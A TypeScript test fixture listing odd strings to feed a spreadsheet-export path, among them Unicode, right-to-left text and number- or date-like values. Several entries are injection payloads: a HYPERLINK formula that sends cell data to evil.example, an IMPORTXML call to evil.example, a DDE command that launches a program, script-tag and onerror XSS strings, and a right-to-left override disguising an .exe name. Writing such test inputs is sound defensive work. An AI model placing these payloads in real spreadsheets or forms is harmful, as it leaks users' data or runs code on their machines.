/**
 * What strangers write where a spreadsheet will show it: in the name their phone sends, in texts, in form answers.
 * Each is inert in a careful program and a formula, a number, a date or a broken row in a careless one.
 */
export const ODD_TEXTS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Click to see your bill")',
  '+1+1',
  "'quoted",
  '<img src=x onerror=alert(1)>',
  '-2+3',
  '@SUM(A1:A9)',
  'TRUE',
  '0012',
  '2026-03-01',
  '1/2',
  '🚿🔥 Ana & Zoë 👩🏽‍🔧',
  'مرحبا بالعالم',
  'שלום (RTL) 123',
  'first line\nsecond line\r\nthird',
  '"double", comma; semicolon\ttab',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("https://evil.example","//a")',
  '1E5',
  '  leading and trailing  ',
  '#REF!',
  "''twice",
  '</script><script>alert(1)</script>',
  '$1.50',
  '50%',
  'N/A',
  'null',
  '\u202Egnp.exe',
  'x'.repeat(400),
];

/** Form answers have no length limit: this one does not fit into a cell. */
const LONG_ANSWER = 'It is a long story. '.repeat(3000);
const ODD_ANSWERS: readonly string[] = [...ODD_TEXTS, LONG_ANSWER];

export const oddAnswer = (n: number): string => ODD_ANSWERS[n % ODD_ANSWERS.length] as string;

/** The `n`-th odd text; they take turns, so that none is left out of a long enough run. */
export const oddText = (n: number): string => ODD_TEXTS[n % ODD_TEXTS.length] as string;

/** True once in every `1 / rate` of consecutive numbers: a certain rate, not a likely one. */
export const isOdd = (n: number, rate: number) => rate > 0 && n % Math.max(1, Math.round(1 / rate)) === 3;
